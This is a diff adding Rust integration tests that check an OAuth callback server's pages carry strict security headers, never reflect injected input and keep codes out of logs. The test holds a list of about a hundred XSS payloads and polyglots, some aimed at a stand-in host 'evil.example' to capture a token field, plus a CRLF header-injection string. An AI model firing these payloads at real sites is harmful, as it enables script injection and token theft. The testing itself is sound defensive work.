@@ -1,0 +1,114 @@
+//! The pages that browsers see: nothing is reflected, nothing is framed, nothing leaks (security.md, row 41).
+
+use url::Url;
+
+use super::{HOUR, admin, begin, url_of, visit};
+use crate::support::authorization_servers::{Browser, MockServer, PROVIDER};
+use crate::support::{Reply, World};
+
+/// What each page has, whatever it says.
+fn assert_careful(page: &Reply) {
+    let policy = page.header("content-security-policy");
+    assert!(policy.contains("default-src 'none'") && policy.contains("frame-ancestors 'none'"), "{policy}");
+    assert!(!policy.contains("unsafe"), "{policy}");
+    assert_eq!(page.header("referrer-policy"), "no-referrer");
+    assert_eq!(page.header("cache-control"), "no-store");
+    assert_eq!(page.header("x-content-type-options"), "nosniff");
+    assert_eq!(page.header("x-frame-options"), "DENY");
+    assert!(page.header("content-type").starts_with("text/html"));
+    assert!(!page.text.contains("<script") && !page.text.contains("http-equiv"), "{}", page.text);
+}
+
+/// Texts that some page, somewhere, has fallen for: every element and handler in every quoting, and polyglots.
+fn payloads() -> Vec<String> {
+    let mut all = Vec::new();
+    for open in ["", "\"", "'", "\">", "'>", "-->", "</title>", "</textarea>", "]]>", "`"] {
+        for body in [
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "<svg/onload=alert(1)>",
+            "<iframe srcdoc='<script>alert(1)</script>'>",
+            "<a href=javascript:alert(1)>x</a>",
+            "<meta http-equiv=refresh content='0;url=//evil.example'>",
+            "<base href=//evil.example>",
+            "<form action=//evil.example><input name=token>",
+            " onfocus=alert(1) autofocus x=",
+            "<style>@import'//evil.example'</style>",
+        ] {
+            all.push(format!("{open}{body}"));
+        }
+    }
+    all.extend(
+        ["\u{202e}<b>", "%3Cscript%3E", "&lt;script&gt;<u>", "{{7*7}}<i>", "\r\nSet-Cookie: a=b"]
+            .map(Into::into),
+    );
+    all
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn no_payload_is_reflected_by_the_callback() {
+    let provider = MockServer::start(HOUR);
+    let world = provider.set(World::embedded());
+    let server = world.setup.start().await;
+    let base = format!("http://{}/integrations/{PROVIDER}/callback", server.address());
+    let payloads = payloads();
+    assert!(payloads.len() >= 100, "only {} payloads", payloads.len());
+    for payload in &payloads {
+        for name in ["state", "code", "error", "error_description", "iss", "redirect_to", "x"] {
+            let mut url = Url::parse(&base).unwrap();
+            url.query_pairs_mut().append_pair(name, payload);
+            if name != "state" {
+                url.query_pairs_mut().append_pair("state", &"A".repeat(43));
+            }
+            let page = visit(&url).await;
+            assert_eq!(page.status, 400);
+            assert_careful(&page);
+            assert!(!page.everything().contains(payload.as_str()), "{name} {payload}");
+            assert!(
+                !page.text.contains("alert(1)") && !page.text.contains("evil.example"),
+                "{name} {payload}"
+            );
+        }
+        let path: String = url::form_urlencoded::byte_serialize(payload.as_bytes()).collect();
+        let url = Url::parse(&format!(
+            "http://{}/integrations/{}/callback?state=x",
+            server.address(),
+            path.replace('+', "%20")
+        ));
+        let page = visit(&url.unwrap()).await;
+        assert!(!page.text.contains("alert(1)") && !page.text.contains("evil.example"), "{payload}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_a_provider_names_an_account_is_shown_as_text() {
+    let provider = MockServer::start(HOUR);
+    let world = provider
+        .set(World::embedded())
+        .with("STRONGROOM_OAUTH__REDIRECT_ALLOWLIST", "https://app.example.com");
+    let server = world.setup.start().await;
+    let admin = admin(&server);
+    for account in ["<img src=x onerror=alert(1)>@example.com", "\"><script>alert(1)</script>@example.com"] {
+        let begun = begin(&admin, "redirect_to=https://app.example.com/x").await;
+        let back = Browser::default().follow_as(url_of(&begun), account).await;
+        let page = visit(&back).await;
+        assert_eq!(page.status, 200);
+        assert_careful(&page);
+        assert!(!page.text.contains("<img") && !page.text.contains("<script"), "{}", page.text);
+        assert!(
+            page.header("content-security-policy").contains("form-action 'self' https://app.example.com")
+        );
+        assert!(
+            page.text.contains("name=\"referrer\" content=\"origin\""),
+            "the form must be sent with its origin"
+        );
+    }
+    // The address of the page, with its code and state, is in no log.
+    let begun = begin(&admin, "").await;
+    let back = Browser::default().follow(url_of(&begun)).await;
+    visit(&back).await;
+    let logs = server.logs();
+    for secret in [super::parameter(&back, "code").unwrap(), begun["state"].as_str().unwrap().to_owned()] {
+        assert!(!logs.contains(&secret), "a code or a state is in the log");
+    }
+}
